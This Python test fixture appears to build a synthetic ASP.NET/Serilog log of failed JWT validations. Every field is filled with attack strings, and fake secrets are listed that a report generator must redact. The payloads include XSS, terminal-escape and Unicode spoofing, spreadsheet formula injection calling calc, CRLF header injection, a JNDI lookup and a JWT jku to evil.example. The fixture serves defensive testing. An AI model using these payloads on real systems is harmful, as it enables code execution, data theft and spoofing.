"""A log whose writer attacks whoever reads the reports: every field of every record is the attacker's."""

import base64
import json
from typing import Final

ATTACKS: Final = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</style><style>*{display:none}",
    'https://a.example/"onmouseover="alert(1)',
    "javascript:alert(1)",
    "{{7*7}}{% raw %}",
    "\x1b[31mred\x1b]0;title\x07",
    "\u202egnp.exe\u2066",
    "zero\u200bwidth\ufeff",
    "a\u0301" + "\u0301" * 60,
    "\x00\x08\x7f\x85\u2028",
    '=HYPERLINK("https://evil.example")',
    "+1+cmd|' /C calc'!A0",
    "[x](javascript:alert(1)) ![y](https://evil.example/p.png) **b** @octocat | c",
    "`code` ```\nfence",
    "%0d%0aSet-Cookie: a=b",
    "${jndi:ldap://evil.example/a}",
    "A" * 20_000,
)
SIGNATURE: Final = base64.urlsafe_b64encode(bytes((i * 73 + 41) % 256 for i in range(256))).rstrip(b"=").decode()
SECRETS: Final = (
    *(SIGNATURE[at : at + 24] for at in (0, 100, len(SIGNATURE) - 24)),
    *("hunter2-Hunter2", "carol-77", "carol@people.example", "Carol Secretname"),
)
"""What must not stand in any report."""
_TEXTS: Final = tuple(
    (
        """\
IDX10205: Issuer validation failed. Issuer: 'ATTACK'. Did not match: validationParameters.ValidIssuer: 'ATTACKx' \
or validationParameters.ValidIssuers: 'null' or validationParameters.ConfigurationManager.CurrentConfiguration.Issuer: \
'Null'.
IDX10214: Audience validation failed. Audiences: 'ATTACK'. Did not match: validationParameters.ValidAudience: \
'ATTACKx' or validationParameters.ValidAudiences: 'null'.
IDX10501: Signature validation failed. Unable to match key: kid: 'ATTACK'. Exceptions caught: ''. token: 'TOKEN'."""
    ).splitlines()
)
_HANDLER: Final = "Microsoft.AspNetCore.Authentication.JwtBearer.JwtBearerHandler"


def log() -> str:
    """A record for each attack and code, as Serilog's compact JSON."""
    records = (_record(number, attack) for number, attack in enumerate(ATTACKS))
    return "".join(json.dumps(record) + "\n" for record in records)


def _record(number: int, attack: str) -> dict[str, object]:
    token = _token(number, attack)
    text = _TEXTS[number % len(_TEXTS)].replace("ATTACK", attack).replace("TOKEN", token)
    return {
        "@t": f"2026-11-24T09:{number:02d}:00.0000000Z",
        "@mt": "Failed to validate the token.",
        "@x": f"Microsoft.IdentityModel.Tokens.SecurityTokenException: {text}",
        "EventId": {"Id": 1, "Name": "TokenValidationFailed"},
        "SourceContext": _HANDLER,
        "AuthenticationScheme": attack,
        "RequestId": f"{attack[:300]}{number}",
        "RequestPath": f"/hub?access_token={token}",
        "MachineName": attack,
        "ClientIp": attack,
        "UserName": "carol-77",
        "Authorization": f"Bearer {token}",
        "Cookie": f"session=hunter2-Hunter2; .AspNetCore.Cookies=CfDJ8{SIGNATURE}",
    }


def _token(number: int, attack: str) -> str:
    header = {"alg": "RS256", "kid": attack, "typ": "JWT", "jku": f"https://evil.example/{number}"}
    claims = {
        "iss": f"https://a.example/{attack}",
        "aud": [attack, "api"],
        "sub": "carol-77",
        "email": "carol@people.example",
        "name": "Carol Secretname",
        "exp": 1_795_510_000,
        "scp": attack,
        attack: "a name of a claim",
    }
    return ".".join((*(_part(json.dumps(one).encode()) for one in (header, claims)), SIGNATURE))


def _part(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()
